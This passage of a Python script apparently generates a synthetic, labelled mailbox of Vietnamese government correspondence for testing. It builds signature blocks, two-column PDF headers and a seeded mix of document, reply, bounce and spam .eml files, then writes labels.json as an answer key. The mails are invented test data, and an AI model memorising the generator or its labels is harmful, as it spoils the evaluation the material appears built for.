        if abbr in ("CT", "CĐ") and not (executive or iss.party):
            continue
        if iss.party and abbr in ("QyĐ", "TTr", "CTr", "PA", "BB", "GM"):
            continue
        out.append((name, abbr))
    return out


def signature(issuer: str, rnd: random.Random) -> list[str]:
    """The authority and title lines of a signature block that fits the issuer."""
    if issuer.startswith("Ủy ban"):
        return rnd.choice([["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH"],
                           ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]])
    if issuer.startswith("Hội đồng"):
        return ["TM. THƯỜNG TRỰC HĐND", "PHÓ CHỦ TỊCH"]
    if issuer.startswith(("Sở", "Trung tâm", "Công an")):
        return rnd.choice([["GIÁM ĐỐC"], ["KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC"]])
    if issuer.startswith("Bộ"):
        return rnd.choice([["BỘ TRƯỞNG"], ["KT. BỘ TRƯỞNG", "THỨ TRƯỞNG"],
                           ["TL. BỘ TRƯỞNG", "CHÁNH VĂN PHÒNG"]])
    if issuer.startswith("Ban") or "Tỉnh ủy" in issuer or "Thành ủy" in issuer:
        return ["T/M BAN THƯỜNG VỤ", "PHÓ BÍ THƯ"]
    return rnd.choice([["THỦ TRƯỞNG ĐƠN VỊ"], ["KT. CHÁNH VĂN PHÒNG", "PHÓ CHÁNH VĂN PHÒNG"],
                       ["Q. TRƯỞNG PHÒNG"]])


def short(text: str, width: int) -> str:
    """At most `width` characters, cut at a space."""
    return text if len(text) <= width else text[:width].rsplit(" ", 1)[0]


def b64(data: bytes) -> str:
    text = base64.b64encode(data).decode("ascii")
    return "".join(text[i:i + 76] + "\r\n" for i in range(0, len(text), 76))


def digest(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()[:12]


def strip_marks(text: str) -> str:
    folded = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    return "".join(c for c in folded if not unicodedata.combining(c))


def slug(text: str) -> str:
    return "-".join(strip_marks(text).lower().replace(".", "").split())


def wrapped(text: str, parts: int, rnd: random.Random) -> list[str]:
    """The text over 1 + parts lines, cut at spaces."""
    words = text.split()
    if parts == 0 or len(words) < 4:
        return [text]
    cuts = sorted(rnd.sample(range(2, len(words) - 1), min(parts, len(words) - 3)))
    out, last = [], 0
    for cut in [*cuts, len(words)]:
        out.append(" ".join(words[last:cut]))
        last = cut
    return out


def layout_lines(left: list[str], right: list[str], layout: str) -> list[str]:
    """The two header columns as text extraction returns them: one after the other, side by
    side on each line, or one line of each in turn."""
    if layout == "stacked":
        return [*left, "", *right]
    rows = max(len(left), len(right))
    lcol = left + [""] * (rows - len(left))
    rcol = right + [""] * (rows - len(right))
    if layout == "side":
        return [f"{a:<44}{b}".rstrip() for a, b in zip(lcol, rcol, strict=True)]
    return [x for a, b in zip(lcol, rcol, strict=True) for x in (a, b) if x]


def pdf_of(text: str) -> bytes:
    doc = FPDF(format="A4")
    doc.set_creation_date(dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    doc.add_font("DejaVu", "", str(FONT))
    doc.set_font("DejaVu", size=10)
    doc.add_page()
    for line in text.splitlines():
        doc.multi_cell(0, 5, line or " ", new_x="LMARGIN", new_y="NEXT")
    return bytes(doc.output())


def pdf_of_page(page: Page) -> bytes:
    """The document as an agency's PDF: the header in two real columns (left the issuer and
    number, right the motto and date line), so extraction orders them as it does on real
    files; then the rest at full width."""
    doc = FPDF(format="A4")
    doc.set_creation_date(dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    doc.add_font("DejaVu", "", str(FONT))
    doc.set_font("DejaVu", size=10)
    doc.add_page()
    top = doc.get_y()
    for line in page.left:
        doc.set_x(10)
        doc.multi_cell(75, 5, line or " ", align="C", new_x="LMARGIN", new_y="NEXT")
    bottom = doc.get_y()
    doc.set_y(top)
    for line in page.right:
        doc.set_x(90)
        doc.multi_cell(110, 5, line or " ", align="C", new_x="LMARGIN", new_y="NEXT")
    doc.set_y(max(bottom, doc.get_y()))
    for line in page.rest:
        doc.multi_cell(0, 5, line or " ", new_x="LMARGIN", new_y="NEXT")
    return bytes(doc.output())


MIX: list[tuple[str, int]] = [("document", 50), ("dossier", 18), ("reply", 14), ("auto", 4),
                              ("bounce", 3), ("bulk", 3), ("spam", 8)]


def generate(out: Path, count: int = 620, seed: int = 13) -> list[dict[str, Any]]:
    """Write `count` mails, labels.json and context.json into `out`; return the labels."""
    gen = Gen(random.Random(seed))
    makers: dict[str, Callable[[], Mail]] = {
        "document": gen.document, "dossier": gen.dossier, "reply": gen.reply,
        "auto": gen.auto, "bounce": gen.bounce, "bulk": gen.bulk, "spam": gen.spam}
    kinds = [k for k, w in MIX for _ in range(w)]
    out.mkdir(parents=True, exist_ok=True)
    labels = []
    for i in range(1, count + 1):
        mail = makers[gen.pick(kinds)]()
        name = f"{i:04d}.eml"
        (out / name).write_bytes(mail.raw)
        labels.append({"file": name, **mail.label})
    (out / "labels.json").write_text(json.dumps(labels, ensure_ascii=False, indent=1) + "\n",
                                     encoding="utf-8")
    context = {"set": "generated", "seed": seed, "mailbox": MAILBOX, "agency": AGENCY,
               "authserv_id": AUTHSERV, "now": "2026-11-01T09:00:00+07:00",
               "cases": gen.cases}
    (out / "context.json").write_text(json.dumps(context, ensure_ascii=False, indent=1) + "\n",
                                      encoding="utf-8")
    return labels


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--count", type=int, default=620)
    parser.add_argument("--seed", type=int, default=13)
    args = parser.parse_args()
    labels = generate(args.out, args.count, args.seed)
    print(f"{len(labels)} mails in {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
